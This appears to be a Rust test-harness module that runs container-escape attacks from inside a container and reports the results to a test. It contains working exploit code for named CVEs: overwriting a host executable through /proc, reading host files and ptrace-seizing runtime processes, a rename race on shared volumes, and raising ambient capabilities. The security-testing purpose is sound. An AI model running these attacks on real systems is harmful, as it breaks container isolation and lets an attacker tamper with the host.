//! Attacks the host or the runtime from inside a container, until `/out/give-up` exists. The test decides whether the
//! results matter.
//!
//! An attack loops without a pause, because its target exists only for a moment. It reports its results in
//! `/out/report`, between the lines `ready` and `end`.

use crate::harness::kernel;
use nix::{
    fcntl::{AT_FDCWD, RenameFlags, renameat2},
    sys::wait::{WaitPidFlag, waitpid},
    unistd::Pid,
};
use std::{
    collections::BTreeSet,
    fs::{self, File},
    io::{Seek, SeekFrom, Write},
    os::{fd::AsRawFd, unix::fs::MetadataExt},
    process::{Command, ExitCode},
};

/// Runs the attack that the arguments name.
pub(super) fn main(words: &[&str]) -> Option<ExitCode> {
    match words {
        ["exe", file] => with_report(|report| overwrite_exe(report, file)),
        ["reach", host] => with_report(|report| reach(report, host)),
        ["swap", one, other] => with_report(|report| swap(report, one, other)),
        ["raise", command @ ..] => return Some(raise(command)),
        _ => return None,
    }
    Some(ExitCode::SUCCESS)
}

/// Writes the report of the attack. Writes whole lines only, because the test reads the file meanwhile.
fn with_report(attack: impl FnOnce(&dyn Fn(&str))) {
    let file = File::create("/out/report").unwrap();
    let report = |line: &str| (&file).write_all(format!("{line}\n").as_bytes()).unwrap();
    report("ready");
    attack(&report);
    report("end");
    // If the first process of a pid namespace exits, the kernel kills all others.
    nix::unistd::pause();
}

fn given_up() -> bool {
    fs::exists("/out/give-up").unwrap_or(true)
}

/// Returns the processes of this pid namespace, without the first one and this one.
fn others() -> Vec<i32> {
    let own = i32::try_from(std::process::id()).unwrap();
    let all = fs::read_dir("/proc").unwrap();
    let pids = all.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse::<i32>().ok());
    pids.filter(|pid| *pid != 1 && *pid != own).collect()
}

/// Returns all readable entries of a directory of `/proc/PID`.
fn entries(directory: &str) -> Vec<String> {
    let names = fs::read_dir(directory).into_iter().flatten();
    names.filter_map(|entry| Some(format!("{directory}/{}", entry.ok()?.file_name().to_str()?))).collect()
}

/// CVE-2019-5736, CVE-2026-31431: searches the executable, the file descriptors and the mappings of every other process
/// for `file` (device:inode), and writes to the file once it is no longer busy. Reports the file even if it can only
/// be opened for reading, because a page cache bug makes that enough. Reports `held` with the path, then `wrote` or the
/// error.
fn overwrite_exe(report: &dyn Fn(&str), file: &str) {
    let held = loop {
        let ways = others().into_iter().flat_map(|pid| {
            let base = format!("/proc/{pid}");
            let mut ways = vec![format!("{base}/exe")];
            ways.extend(entries(&format!("{base}/fd")));
            ways.extend(entries(&format!("{base}/map_files")));
            ways
        });
        let found = ways.into_iter().find_map(|way| {
            let found = fs::metadata(&way).ok()?;
            (format!("{}:{}", found.dev(), found.ino()) == file).then_some(())?;
            Some((File::open(&way).ok()?, way))
        });
        if let Some((held, way)) = found {
            report(&format!("held {way}"));
            break held;
        }
        if given_up() {
            return;
        }
    };
    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
    let answer = loop {
        let attempt = File::options().write(true).open(&path).and_then(|mut file| {
            file.seek(SeekFrom::Start(0))?;
            file.write_all(b"#!/evil\n")
        });
        match attempt {
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && !given_up() => std::thread::yield_now(),
            other => break other,
        }
    };
    match answer {
        Ok(()) => report("wrote"),
        Err(error) => report(&error.to_string()),
    }
}

/// CVE-2016-9962: reads the host's file `host` through any process that appears, and traces the process. Reports each
/// success on a line of its own, and the number of processes it saw.
fn reach(report: &dyn Fn(&str), host: &str) {
    let (mut seen, mut traced, mut reached) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
    while !given_up() {
        for pid in others() {
            seen.insert(pid);
            let base = format!("/proc/{pid}");
            let mut ways = vec![format!("{base}/root"), format!("{base}/cwd")];
            ways.extend(entries(&format!("{base}/fd")));
            for way in ways {
                let paths = [format!("{way}{host}"), format!("{way}/../../../../../../../..{host}")];
                if paths.iter().any(|path| fs::read_to_string(path).is_ok_and(|text| text == "host\n")) {
                    reached.insert(way);
                }
            }
            if !traced.contains(&pid) && seize(pid) {
                traced.insert(pid);
                // Reads the stopped process: it belongs to the runtime unless it already executes a program of the
                // image.
                let exe = fs::read_link(format!("{base}/exe")).unwrap_or_default();
                let more = permitted(pid) & !permitted_to_us();
                if !exe.starts_with("/bin") && more != 0 {
                    report(&format!("traced {} with capabilities {more:x}", exe.display()));
                }
                release(pid);
            }
        }
    }
    reached.iter().for_each(|way| report(&format!("reached {way}")));
    report(&format!("saw {}", seen.len()));
}

fn trace(request: u64, pid: i32) -> bool {
    let pid = u64::try_from(pid).unwrap();
    kernel::syscall(libc::SYS_ptrace, [request, pid, 0, 0, 0, 0]).is_ok()
}

/// Traces a process and stops it.
fn seize(pid: i32) -> bool {
    const SEIZE: u64 = 0x4206;
    const INTERRUPT: u64 = 0x4207;
    trace(SEIZE, pid) && {
        trace(INTERRUPT, pid);
        waitpid(Pid::from_raw(pid), Some(WaitPidFlag::__WALL)).is_ok()
    }
}

/// Resumes a process. If the process has exited, the wait in `seize` has reaped it.
fn release(pid: i32) {
    const DETACH: u64 = 17;
    trace(DETACH, pid);
}

fn permitted(pid: i32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("CapPrm:\t"));
    line.and_then(|text| u64::from_str_radix(text, 16).ok()).unwrap_or_default()
}

fn permitted_to_us() -> u64 {
    permitted(i32::try_from(std::process::id()).unwrap())
}

/// CVE-2021-30465: exchanges two names of a shared volume in a loop. Reports the number of exchanges.
fn swap(report: &dyn Fn(&str), one: &str, other: &str) {
    let mut count = 0_u64;
    while !given_up() {
        renameat2(AT_FDCWD, one, AT_FDCWD, other, RenameFlags::RENAME_EXCHANGE).unwrap();
        count += 1;
    }
    report(&format!("swapped {count}"));
}

/// CVE-2016-8867, on the host: runs a command with full inheritable and ambient capability sets.
fn raise(command: &[&str]) -> ExitCode {
    let all = caps::read(None, caps::CapSet::Permitted).unwrap();
    caps::set(None, caps::CapSet::Inheritable, &all).unwrap();
    caps::set(None, caps::CapSet::Ambient, &all).unwrap();
    let status = Command::new(command[0]).args(&command[1..]).status().unwrap();
    ExitCode::from(u8::try_from(status.code().unwrap_or(255)).unwrap_or(255))
}
